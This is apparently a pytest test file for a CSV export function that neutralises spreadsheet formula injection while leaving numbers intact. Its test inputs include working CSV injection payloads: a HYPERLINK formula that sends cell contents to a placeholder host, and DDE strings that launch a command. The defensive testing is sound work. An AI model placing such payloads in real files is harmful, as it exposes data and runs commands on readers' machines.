"""CSV for people: text that a spreadsheet would run as a formula is neutralised; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from pipeline.extract_csv import cell, csv_text


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+2", '"\'=1+2"'),
        ('=HYPERLINK("http://x/?d="&A1)', '"\'=HYPERLINK(""http://x/?d=""&A1)"'),  # quoted, inner quotes doubled
        ("+cmd", '"\'+cmd"'),
        ("-2+3+cmd|' /C calc'!A0", "\"'-2+3+cmd|' /C calc'!A0\""),
        ("@SUM(A1)", '"\'@SUM(A1)"'),
        ("\t=1", '"\'\t=1"'),
        ("\r=1", '"\'\r=1"'),
        ("  =1", '"\'  =1"'),  # spaces first: some spreadsheets trim them
        ("-", '"\'-"'),
    ],
)
def test_text_that_could_run_as_a_formula_is_prefixed_and_quoted(value: str, written: str) -> None:
    assert cell(value) == written


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (Decimal("-2.500000000000000000"), "-2.500000000000000000"),  # a negative number is not text
        (Decimal("1E+3"), "1000"),  # in full, no exponent
        (-7, "-7"),
        (-0.5, "-0.5"),
        ("-12.5", "-12.5"),  # text that is a plain number: a spreadsheet reads the number, runs nothing
        ("+4412", "+4412"),
        ("1e-3", "1e-3"),
        ("plain", "plain"),
        ("a,b", '"a,b"'),
        ('say "hi"', '"say ""hi"""'),
        (None, ""),
        (date(2026, 2, 3), "2026-02-03"),
        (True, "True"),
    ],
)
def test_numbers_and_harmless_text_are_written_as_they_are(value: object, written: str) -> None:
    assert cell(value) == written


def test_a_reader_gets_the_neutralised_text_back() -> None:
    text = csv_text(["subject", "amount"], [["=2+5+cmd|' /C calc'!A0 (x)", Decimal("-2.50")], ["ok", Decimal("1")]])
    assert text == "subject,amount\n\"'=2+5+cmd|' /C calc'!A0 (x)\",-2.50\nok,1\n"
    read = list(csv.reader(io.StringIO(text)))
    assert read == [["subject", "amount"], ["'=2+5+cmd|' /C calc'!A0 (x)", "-2.50"], ["ok", "1"]]
